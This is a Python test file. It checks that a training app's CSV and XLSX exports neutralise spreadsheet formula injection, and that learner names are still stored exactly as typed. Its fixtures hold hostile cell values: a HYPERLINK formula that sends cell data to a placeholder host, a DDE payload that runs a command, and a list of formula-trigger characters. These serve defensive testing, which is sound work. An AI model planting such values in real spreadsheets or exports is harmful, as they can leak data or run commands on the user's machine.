"""Names reach CSV and XLSX exports as text, never as formulas (OWASP CSV injection), yet are stored as typed."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.core.records_fixtures import train_worker
from trainer_app.core.exchange.cells import neutralise
from trainer_app.core.exchange.report_views import VIEWS

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Open")', "+1+2", "-Ana", "@SUM(A1:A9)"]
AGENCY = "=cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-Ana", "'-Ana"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ana", "Ana"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_prefixes_an_apostrophe_to_formula_triggers_only(typed: str, written: str) -> None:
    assert neutralise(typed) == written


def hostile_learners(app: Any) -> list[str]:
    ids = []
    for name in HOSTILE:
        learner, _ = app.learners.create(name, "case_worker", AGENCY, "@site")
        ids.append(learner.id)
    train_worker(app, ids[0])
    return ids


def test_names_are_stored_exactly_as_typed(mini_app: Any) -> None:
    ids = hostile_learners(mini_app)
    assert [mini_app.learners.get(i).display_name for i in ids] == HOSTILE


@pytest.mark.parametrize("view", VIEWS)
def test_csv_cells_never_start_a_formula(mini_app: Any, tmp_path: Path, view: str) -> None:
    hostile_learners(mini_app)
    path = mini_app.reports.export(tmp_path / f"{view}.csv", "csv", view=view)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    if view == "learners":
        names = {row[rows[0].index("name")] for row in rows[1:]}
        assert names == {"'" + name for name in HOSTILE}
        assert {row[rows[0].index("agency")] for row in rows[1:]} == {"'" + AGENCY}


def test_xlsx_cells_are_strings_never_formulas(mini_app: Any, tmp_path: Path) -> None:
    hostile_learners(mini_app)
    from trainer_app.core.domain.report import ReportFilter

    path = mini_app.reports.export(tmp_path / "report.xlsx", "xlsx", ReportFilter(agency=AGENCY))
    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    sheet = book["Learners"]
    header = [c.value for c in sheet[1]]
    names = [row[header.index("name")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted(HOSTILE)  # typed string cells: the text itself, no apostrophe needed
    quoted = [c for c in cells if isinstance(c.value, str) and c.value.startswith(DANGEROUS)]
    assert quoted
    assert all(c.data_type == "s" and c.quotePrefix for c in quoted)
